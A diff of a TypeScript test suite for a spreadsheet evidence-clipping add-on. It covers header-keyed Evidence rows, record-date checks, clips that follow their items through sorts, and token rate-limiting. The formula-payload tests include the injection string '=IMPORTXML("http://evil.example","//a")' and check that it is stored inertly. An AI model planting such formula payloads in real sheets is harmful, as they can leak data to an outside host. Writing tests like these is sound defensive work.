@@ -89,9 +89,13 @@ function evidence(t: Intake) {
   return t.host.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Evidence');
 }
 
-function evidenceRows(t: Intake): unknown[][] {
-  const sheet = evidence(t);
-  return sheet ? (sheet.getDataRange().getValues() as unknown[][]).slice(1) : [];
+type EvidenceRow = Record<string, unknown>;
+
+/** The Evidence sheet's rows below its header, each keyed by its header: the add-on's columns are found by header, not place. */
+function evidenceRows(t: Intake, sheet = evidence(t)): EvidenceRow[] {
+  if (!sheet) return [];
+  const [header, ...rows] = sheet.getDataRange().getValues() as unknown[][];
+  return rows.map((row) => Object.fromEntries(header!.map((h, c) => [String(h), row[c]])));
 }
 
 const CLIP = {
@@ -200,16 +204,17 @@ describe('a clip', () => {
 
     const rows = evidenceRows(t);
     expect(rows).toHaveLength(1);
-    const [at, by, requirement, element, title, link, recordDate, excerpt, note, snapshot, sha256, clipId] = rows[0]!;
+    const { 'Captured at': at, Snapshot: snapshot, ...rest } = rows[0]!;
     // A date of the bundle's realm.
     expect(Object.prototype.toString.call(at)).toBe('[object Date]');
     expect((at as Date).toISOString()).toBe(CLIP.capturedAt);
-    expect([by, requirement, element, title, link, recordDate, excerpt, note, sha256, clipId]).toEqual([
-      'Priya Patel', target.requirement, target.element, CLIP.title, CLIP.url, CLIP.recordDate, CLIP.excerpt, CLIP.note, sha, CLIP.id,
-    ]);
+    expect(rest).toEqual({
+      By: 'Priya Patel', Requirement: target.requirement, Item: '', 'Item row when saved': '', Element: target.element, Title: CLIP.title, Link: CLIP.url,
+      'Record date': CLIP.recordDate, Excerpt: CLIP.excerpt, Note: CLIP.note, 'SHA-256': sha, 'Clip id': CLIP.id,
+    });
     expect(snapshot).toBe(answer.ok && answer.action === 'clip' ? answer.snapshotUrl : null);
     const sheet = evidence(t);
-    expect(sheet.getRange('A1:L1').getFontWeight()).toBe('bold');
+    expect(sheet.getRange('A1:N1').getFontWeights()).toEqual([new Array(14).fill('bold')]);
     expect(sheet.getFrozenRows()).toBe(1);
 
     const files = readdirSync(join(t.driveDir, FOLDER));
@@ -234,7 +239,7 @@ describe('a clip', () => {
     const target = missingEvidenceRow(t.view);
     const answer = t.post(clipRequest(token, { id: 'clip-by-row-01', requirement: target.row, recordDate: '2026-11-01' }));
     expect(answer).toMatchObject({ ok: true, row: 2, snapshotUrl: null, sha256: null });
-    expect(evidenceRows(t)[0]![2]).toBe(`Row ${target.row} · ${target.requirement}`);
+    expect(evidenceRows(t)[0]).toMatchObject({ Requirement: target.requirement, Item: target.text, 'Item row when saved': target.row });
     // The team edits the owner cell of that row: onEdit re-judges it with its clip.
     const ss = t.host.globals.SpreadsheetApp.getActiveSpreadsheet();
     const tracker = ss.getSheetByName('Tracker');
@@ -242,7 +247,7 @@ describe('a clip', () => {
     owner.setValue('Priya');
     t.host.counts.reset();
     t.run.onEdit!({ range: owner, source: ss, value: 'Priya' });
-    expect(t.host.counts.byService.SpreadsheetApp).toBeLessThanOrEqual(8);
+    expect(t.host.counts.byService.SpreadsheetApp).toBeLessThanOrEqual(9);
     expect(tracker.getRange(target.row, 10).getValue()).not.toMatch(/Missing evidence/);
   });
 
@@ -275,6 +280,185 @@ describe('a clip', () => {
     // The scan reads the add-on's sheet, not theirs, and finds it again after a rename.
     t.host.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('SECOR Evidence').setName('Clipped');
     expect(t.post(clipRequest(token))).toMatchObject({ ok: true, sheet: 'Clipped', duplicate: true });
+  });
+});
+
+/** The tracker's rows, as text, from the bundle's side. */
+function trackerRows(t: Intake): string[][] {
+  const tracker = t.host.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Tracker');
+  return (tracker.getDataRange().getDisplayValues() as string[][]).map((r) => [...r]);
+}
+
+/**
+ * Sorts the tracker rows of one element (the rows below its heading row, whose Element cell is
+ * blank) by their requirement text, descending, as Data > Sort range does to the model: whole rows
+ * move, nothing else changes. Returns the row (1-based) each moved to, by text.
+ */
+function sortElementRows(t: Intake, aRow: number): Map<string, number> {
+  const rows = trackerRows(t);
+  const blank = (r: number) => rows[r - 1]?.[0] === '' && rows[r - 1]?.[1] !== '';
+  let first = aRow;
+  let last = aRow;
+  while (blank(first - 1)) first--;
+  while (blank(last + 1)) last++;
+  const sheet = t.host.spreadsheet.sheets[0]!;
+  const order = Array.from({ length: last - first + 1 }, (_, i) => first + i).sort((a, b) => rows[b - 1]![1]!.localeCompare(rows[a - 1]![1]!));
+  const moved = order.map((r) => sheet.cells[r - 1]);
+  sheet.cells.splice(first - 1, moved.length, ...moved.map((line) => line ?? []));
+  return new Map(order.map((r, i) => [rows[r - 1]![1]!, first + i]));
+}
+
+/** How the readiness column reads for the row holding `text`, after a rescan. */
+function readinessOf(t: Intake, text: string): string {
+  const rows = trackerRows(t);
+  const header = rows.find((r) => r.includes('Readiness'))!;
+  return rows.find((r) => r[1] === text)![header.indexOf('Readiness')]!;
+}
+
+describe('record dates', () => {
+  it('a record date after today is refused and nothing is written', async () => {
+    const t = await intake();
+    const { token } = pair(t);
+    t.post(clipRequest(token, { id: 'clip-earlier-01' }));
+    const before = everything(t);
+    const far = t.post(clipRequest(token, { recordDate: '9999-12-31' }));
+    expect(far).toMatchObject({ ok: false, error: { code: 'future-record-date' } });
+    if (!far.ok) expect(far.error.message).toMatch(/9999-12-31 is after today \(2026-11-26\): correct the date/);
+    // Late evening in Edmonton is already tomorrow in UTC: "today" is the spreadsheet's day.
+    t.clock.now = Date.parse('2026-11-27T05:00:00Z');
+    expect(t.post(clipRequest(token, { recordDate: '2026-11-27' }))).toMatchObject({ ok: false, error: { code: 'future-record-date' } });
+    const old = t.post(clipRequest(token, { recordDate: '1899-12-30' }));
+    expect(old).toMatchObject({ ok: false, error: { code: 'bad-request' } });
+    if (!old.ok) expect(old.error.message).toMatch(/^clip\.recordDate: 1899-12-30 is before 1990-01-01/);
+    expect(everything(t)).toEqual(before);
+    expect(t.post(clipRequest(token, { recordDate: '2026-11-26' }))).toMatchObject({ ok: true, duplicate: false });
+  });
+});
+
+describe('a clip saved against a row', () => {
+  it('a clip saved against a row stays with its item when the team sorts the rows', async () => {
+    const t = await intake();
+    const { token } = pair(t);
+    const target = missingEvidenceRow(t.view);
+    // Queued with its row and text; the team sorts before it arrives.
+    const moved = sortElementRows(t, target.row);
+    const now = moved.get(target.text)!;
+    expect(now).not.toBe(target.row);
+    const landed = trackerRows(t)[target.row - 1]![1]!;
+    const answer = t.post(clipRequest(token, { id: 'clip-sorted-01', requirement: target.row, item: target.text, recordDate: '2026-11-01' }));
+    expect(answer).toMatchObject({ ok: true, duplicate: false });
+    expect(evidenceRows(t)[0]).toMatchObject({ Requirement: target.requirement, Item: target.text, 'Item row when saved': now });
+    t.run.rescan!();
+    expect(readinessOf(t, target.text)).not.toMatch(/Missing evidence/);
+    const untouched = readinessOf(t, landed);
+
+    // Sorted back after the save: the clip still counts toward its item, not toward its old row.
+    sortElementRows(t, now);
+    const view = t.run.rescan!() as ReadinessView;
+    expect(readinessOf(t, target.text)).not.toMatch(/Missing evidence/);
+    expect(readinessOf(t, landed)).toBe(untouched);
+    expect(view.gapGroups.find((g) => g.kind === 'missing-evidence')?.rows.map((r) => r.text) ?? []).not.toContain(target.text);
+  });
+
+  it('a clip saved against a row stays with its item when rows are inserted above it', async () => {
+    const t = await intake();
+    const { token } = pair(t);
+    const target = missingEvidenceRow(t.view);
+    const tracker = t.host.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Tracker');
+    tracker.insertRowsBefore(6, 2);
+    const answer = t.post(clipRequest(token, { id: 'clip-inserted-1', requirement: target.row, item: ` ${target.text.toUpperCase()} `, recordDate: '2026-11-01' }));
+    expect(answer).toMatchObject({ ok: true });
+    expect(evidenceRows(t)[0]).toMatchObject({ Item: target.text, 'Item row when saved': target.row + 2 });
+    tracker.insertRowsBefore(6, 3);
+    t.run.rescan!();
+    expect(readinessOf(t, target.text)).not.toMatch(/Missing evidence/);
+    expect(trackerRows(t)[target.row - 1]![1]).not.toBe(target.text);
+
+    // The item's text changed, or the item was removed, while the clip waited: refused, nothing written.
+    const before = everything(t);
+    const gone = t.post(clipRequest(token, { id: 'clip-inserted-2', requirement: target.row + 5, item: 'A requirement nobody wrote' }));
+    expect(gone).toMatchObject({ ok: false, error: { code: 'unknown-requirement' } });
+    if (!gone.ok) expect(gone.error.message).toMatch(/changed or removed/);
+    expect(everything(t)).toEqual(before);
+
+    // Two items now read the same and neither is at the row: the clipper must choose again.
+    const twin = trackerRows(t).findIndex((r, i) => i > target.row + 5 && r[0] === '' && r[1] !== '' && r[1] !== target.text) + 1;
+    tracker.getRange(twin, 2).setValue(target.text);
+    const twice = everything(t);
+    const ambiguous = t.post(clipRequest(token, { id: 'clip-inserted-3', requirement: 2, item: target.text }));
+    expect(ambiguous).toMatchObject({ ok: false, error: { code: 'unknown-requirement' } });
+    if (!ambiguous.ok) expect(ambiguous.error.message).toMatch(/2 items of the tracker read/);
+    expect(everything(t)).toEqual(twice);
+  });
+});
+
+describe('the Evidence sheet found by header and tag', () => {
+  it('a column inserted into the Evidence sheet: a retried clip is not written twice and new rows land in the add-on\'s columns', async () => {
+    const t = await intake();
+    const { token } = pair(t);
+    const first = t.post(clipRequest(token, { snapshot: { kind: 'png', name: 'shot.png', base64: Buffer.from('png bytes').toString('base64') } }));
+    const sheet = evidence(t);
+    // The team inserts their own column before Title and fills it in, and renames Note.
+    sheet.insertColumnBefore(7);
+    sheet.getRange('G1:G2').setValues([['Our ref'], ['REF-1']]);
+    sheet.getRange(1, 1, 1, 15).getValues()[0]!.forEach((h: unknown, c: number) => {
+      if (h === 'Note') sheet.getRange(1, c + 1).setValue('Remarks');
+    });
+    const theirs = () => (sheet.getRange('G1:G20').getValues() as unknown[][]).map((r) => r[0]);
+    const theirsBefore = theirs();
+
+    expect(t.post(clipRequest(token, { snapshot: { kind: 'png', name: 'shot.png', base64: Buffer.from('png bytes').toString('base64') } }))).toEqual({ ...first, duplicate: true });
+    expect(evidenceRows(t)).toHaveLength(1);
+    const second = t.post(clipRequest(token, { id: 'clip-0002-abcdef', title: 'Second certificate', note: 'second note' }));
+    expect(second).toMatchObject({ ok: true, row: 3, duplicate: false });
+    const rows = evidenceRows(t);
+    expect(rows).toHaveLength(2);
+    expect(rows[1]).toMatchObject({ 'Our ref': '', Title: 'Second certificate', Remarks: 'second note', 'SHA-256': '', 'Clip id': 'clip-0002-abcdef' });
+    expect(theirs()).toEqual(theirsBefore);
+    expect(t.post(clipRequest(token, { id: 'clip-0002-abcdef' }))).toEqual({ ...second, duplicate: true });
+    // The renamed header is remembered: the next read finds every column without the tags.
+    t.host.counts.reset();
+    t.run.rescan!();
+    expect(t.host.counts.byMethod['Sheet.createDeveloperMetadataFinder'] ?? 0).toBe(0);
+
+    // Without its Clip id column the sheet cannot tell old clips from new: refused, nothing written.
+    const ids = (sheet.getRange(1, 1, 1, 15).getValues()[0] as unknown[]).indexOf('Clip id');
+    sheet.deleteColumn(ids + 1);
+    const before = everything(t);
+    const refused = t.post(clipRequest(token, { id: 'clip-0003-abcdef' }));
+    expect(refused).toMatchObject({ ok: false, error: { code: 'not-set-up' } });
+    if (!refused.ok) expect(refused.error.message).toMatch(/Clip id/);
+    expect(everything(t)).toEqual(before);
+  });
+
+  it('a full Evidence sheet gets rows before the next clip is written', async () => {
+    const t = await intake();
+    const { token } = pair(t);
+    t.post(clipRequest(token));
+    const sheet = evidence(t);
+    sheet.deleteRows(3, sheet.getMaxRows() - 2);
+    expect(sheet.getMaxRows()).toBe(2);
+    t.host.counts.reset();
+    expect(t.post(clipRequest(token, { id: 'clip-0002-abcdef' }))).toMatchObject({ ok: true, row: 3 });
+    expect(t.host.counts.byMethod['Sheet.insertRowsAfter']).toBe(1);
+    expect(sheet.getMaxRows()).toBeGreaterThan(3);
+  });
+
+  it('an Evidence sheet made before the Item column: its rows still count, and the next clip adds the new columns', async () => {
+    const t = await intake();
+    const { token } = pair(t);
+    const target = missingEvidenceRow(t.view);
+    const ss = t.host.globals.SpreadsheetApp.getActiveSpreadsheet();
+    const old = ss.insertSheet('Evidence');
+    const header = ['Captured at', 'By', 'Requirement', 'Element', 'Title', 'Link', 'Record date', 'Excerpt', 'Note', 'Snapshot', 'SHA-256', 'Clip id'];
+    old.getRange(1, 1, 2, 12).setValues([header, [new Date(), 'Priya', `Row ${target.row}`, '', 'Old clip', 'https://example.com', '2026-11-01', '', '', '', '', 'clip-old-000001']]);
+    t.host.properties.document['secor-ready.evidence-sheet'] = JSON.stringify({ sheetId: old.getSheetId(), name: 'Evidence' });
+    t.run.rescan!();
+    expect(readinessOf(t, target.text)).not.toMatch(/Missing evidence/);
+    expect(t.post(clipRequest(token, { id: 'clip-old-000001' }))).toMatchObject({ ok: true, duplicate: true, row: 2 });
+    expect(t.post(clipRequest(token, { id: 'clip-new-000001', requirement: target.row, item: target.text }))).toMatchObject({ ok: true, row: 3 });
+    expect(old.getRange(1, 1, 1, 14).getValues()[0]).toEqual([...header, 'Item', 'Item row when saved']);
+    expect(evidenceRows(t)[1]).toMatchObject({ Requirement: target.requirement, Item: target.text, 'Item row when saved': target.row, 'Clip id': 'clip-new-000001' });
   });
 });
 
@@ -329,6 +513,21 @@ describe('refusals write nothing', () => {
     expect(t.post(clipRequest(token))).toMatchObject({ ok: true });
   });
 
+  it('unknown tokens are rate-limited', async () => {
+    const t = await intake();
+    const { token } = pair(t);
+    const guess = (i: number) => t.post({ v: 1, token: i.toString(16).padStart(64, '0'), action: 'ping' });
+    for (let i = 0; i < 30; i++) expect(guess(i)).toMatchObject({ ok: false, error: { code: 'unknown-token' } });
+    const before = everything(t);
+    const limited = guess(30);
+    expect(limited).toMatchObject({ ok: false, error: { code: 'rate-limited' } });
+    expect(everything(t)).toEqual(before);
+    // A paired person is not held up by the flood; the next minute unknown tokens are told so again.
+    expect(t.post({ v: 1, token, action: 'ping' })).toMatchObject({ ok: true });
+    t.clock.now += 60_000;
+    expect(guess(31)).toMatchObject({ ok: false, error: { code: 'unknown-token' } });
+  });
+
   it('busy: another execution holds the document lock', async () => {
     const t = await intake();
     const { token } = pair(t);
@@ -355,9 +554,9 @@ describe('formula payloads', () => {
     expect((sheet.getDataRange().getFormulas() as string[][]).flat().filter(Boolean)).toEqual([]);
     const rows = evidenceRows(t);
     rows.forEach((row, i) => {
-      expect(row[1]).toBe('=IMPORTXML("http://evil.example","//a")');
-      expect([row[4], row[7], row[8]], FORMULAS[i]).toEqual([FORMULAS[i], FORMULAS[i], FORMULAS[i]]);
-      expect(row[11]).toBe(`formula-clip-${i}`);
+      expect(row.By).toBe('=IMPORTXML("http://evil.example","//a")');
+      expect([row.Title, row.Excerpt, row.Note], FORMULAS[i]).toEqual([FORMULAS[i], FORMULAS[i], FORMULAS[i]]);
+      expect(row['Clip id']).toBe(`formula-clip-${i}`);
     });
   });
 
@@ -367,7 +566,7 @@ describe('formula payloads', () => {
     const first = t.post(clipRequest(token, { id: '00012345' }));
     const second = t.post(clipRequest(token, { id: '00012345' }));
     expect(second).toEqual({ ...first, duplicate: true });
-    expect(evidenceRows(t)[0]![11]).toBe('00012345');
+    expect(evidenceRows(t)[0]!['Clip id']).toBe('00012345');
   });
 });
 
@@ -383,18 +582,20 @@ describe('doGet', () => {
 });
 
 describe('Spreadsheet calls with clips', () => {
-  it('a scan stays at 8 calls or fewer with an Evidence sheet', async () => {
+  it('a scan stays at 9 calls or fewer with an Evidence sheet', async () => {
     const t = await intake();
     const { token } = pair(t);
     t.post(clipRequest(token));
     t.host.counts.reset();
     t.run.rescan!();
-    expect(t.host.counts.byService.SpreadsheetApp).toBeLessThanOrEqual(8);
-    expect(t.host.counts.byMethod['Spreadsheet.getRange']).toBe(1);
+    expect(t.host.counts.byService.SpreadsheetApp).toBeLessThanOrEqual(9);
+    // The Evidence sheet is read whole, once: no tags asked while its headers are where they were.
+    expect(t.host.counts.byMethod['Sheet.getDataRange']).toBe(2);
+    expect(t.host.counts.byMethod['Sheet.createDeveloperMetadataFinder'] ?? 0).toBe(0);
     console.log(`scan with clips: ${JSON.stringify(t.host.counts.byMethod)}`);
   });
 
-  it('an edit of a tracker row reads the clips in 2 more calls', async () => {
+  it('an edit of a tracker row reads the clips in 3 more calls', async () => {
     const t = await intake();
     const { token } = pair(t);
     const ss = t.host.globals.SpreadsheetApp.getActiveSpreadsheet();
@@ -405,8 +606,8 @@ describe('Spreadsheet calls with clips', () => {
     t.post(clipRequest(token));
     t.host.counts.reset();
     t.run.onEdit!({ range: cell, source: ss, value: 'x' });
-    expect(t.host.counts.byService.SpreadsheetApp).toBe(without + 2);
-    console.log(`onEdit: ${without} calls without an Evidence sheet, ${without + 2} with; ${JSON.stringify(t.host.counts.byMethod)}`);
+    expect(t.host.counts.byService.SpreadsheetApp).toBe(without + 3);
+    console.log(`onEdit: ${without} calls without an Evidence sheet, ${without + 3} with; ${JSON.stringify(t.host.counts.byMethod)}`);
   });
 });
 
@@ -487,14 +688,14 @@ describe('fuzzing doPost', () => {
       if (answer.action !== 'clip') continue;
       const sent = (JSON.parse(text) as { clip: Record<string, string> }).clip;
       const row = evidenceRows(t)[answer.row - 2]!;
-      expect(row[11]).toBe(answer.clipId);
+      expect(row['Clip id']).toBe(answer.clipId);
       if (answer.duplicate) {
         expect(seenIds.get(answer.clipId)).toBe(answer.row);
         expect(evidenceRows(t).length).toBe(evidenceBefore);
       } else {
         saved++;
         seenIds.set(answer.clipId, answer.row);
-        expect([row[4], row[5], row[7], row[8]]).toEqual([sent.title, sent.url, sent.excerpt, sent.note]);
+        expect([row.Title, row.Link, row.Excerpt, row.Note]).toEqual([sent.title, sent.url, sent.excerpt, sent.note]);
       }
     }
     // Every kind of answer came up.
@@ -504,7 +705,7 @@ describe('fuzzing doPost', () => {
     console.log(`fuzz answers: ${JSON.stringify(codes)}`);
     expect(saved).toBeGreaterThan(100);
     expect(evidenceRows(t)).toHaveLength(saved);
-    expect(new Set(evidenceRows(t).map((r) => r[11])).size).toBe(saved);
+    expect(new Set(evidenceRows(t).map((r) => r['Clip id'])).size).toBe(saved);
     expect((evidence(t).getDataRange().getFormulas() as string[][]).flat().filter(Boolean)).toEqual([]);
     expect(snapshotCells(tracker)).toEqual(trackerBefore);
     expect(t.host.spreadsheet.sheets.map((s) => s.name)).toEqual(['Tracker', 'Evidence']);
